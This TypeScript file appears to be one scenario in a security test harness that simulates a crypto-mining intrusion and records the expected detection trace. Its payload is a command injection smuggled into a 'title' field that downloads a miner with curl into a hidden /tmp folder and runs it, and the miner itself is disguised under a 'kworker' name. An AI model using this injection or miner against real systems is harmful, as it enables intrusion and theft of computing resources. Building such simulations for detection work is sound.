/** Crypto-miner: a title fetches a program that spins and tells a pool what it has found. */
import { startTcp } from '../attacker/tcp.ts';
import { Truth } from '../desk/truth.ts';
import type { Outcome, Scenario, World } from '../scenario.ts';

export const cryptoMiner: Scenario = {
  name: 'crypto-miner',
  what: 'a program that was fetched into /tmp spins and talks to a pool',
  starts: 'domain',
  hosts: ['tool', 'pool'],
  run,
};

/** Looks for hashes that begin with zeros, and hands them in by lines of JSON, as miners do. */
const miner = `#!/var/lang/bin/node
const { createHash } = require('node:crypto');
const [host, port] = process.argv[2].split(':');
const pool = require('node:net').connect(Number(port), host);
const say = (id, method, params) => pool.write(JSON.stringify({ id, method, params }) + '\\n');
pool.on('connect', () => say(1, 'login', { login: 'wallet', agent: 'kworker/6.1' }));
pool.once('data', () => {
  const until = Date.now() + 1000;
  for (let nonce = 0, shares = 0; Date.now() < until && shares < 20; nonce++) {
    const hash = createHash('sha256').update('job' + nonce).digest('hex');
    if (hash.startsWith('0000')) say(2 + shares++, 'submit', { nonce, hash });
  }
  pool.end();
});
`;

async function run(world: World): Promise<Outcome> {
  const { random } = world;
  const pool = world.host('pool');
  const stratum = await startTcp(pool.address, (socket) => {
    socket.write(`${JSON.stringify({ id: 1, result: { job: 'job' } })}\n`);
  });
  world.atEnd(() => stratum.stop());
  const tool = world.host('tool');
  const path = `/${random.word(10)}`;
  world.serve('tool', path, miner);
  const file = `/tmp/.${random.word(6)}/kworker`;
  const agent = world.agent();
  const get = `mkdir -p ${file.slice(0, -'/kworker'.length)};curl -s ${tool.url}${path} -o ${file};chmod 755 ${file}`;
  const title = `${random.word(6)}";${get};${file} ${pool.host}:${stratum.port};: "`;
  const answer = await world.call('POST', '/convert', { body: { title, text: random.word(20) }, agent });
  if (!stratum.heard().includes('"submit"')) throw new Error(`nothing was handed in: ${answer.status}`);

  const truth = new Truth()
    .asks('the injection', 'convert', answer, agent)
    .converts(answer)
    .programs('convert', answer, 'sh -c printf', 'curl -s', 'chmod 755')
    .attack('the miner', { kind: 'process', label: `${file} ${pool.host}`, function: 'desk-convert', entry: answer.requestId })
    .context('making its folder', { kind: 'process', label: '^mkdir', function: 'desk-convert', entry: answer.requestId })
    .call('convert', answer, `GET https://${tool.host}${path}`)
    .endpoint(tool.host)
    .file('convert', file)
    .endpoint(pool.host);
  return { fact: { what: 'domain', q: pool.host }, entries: [answer.requestId], steps: truth.steps };
}
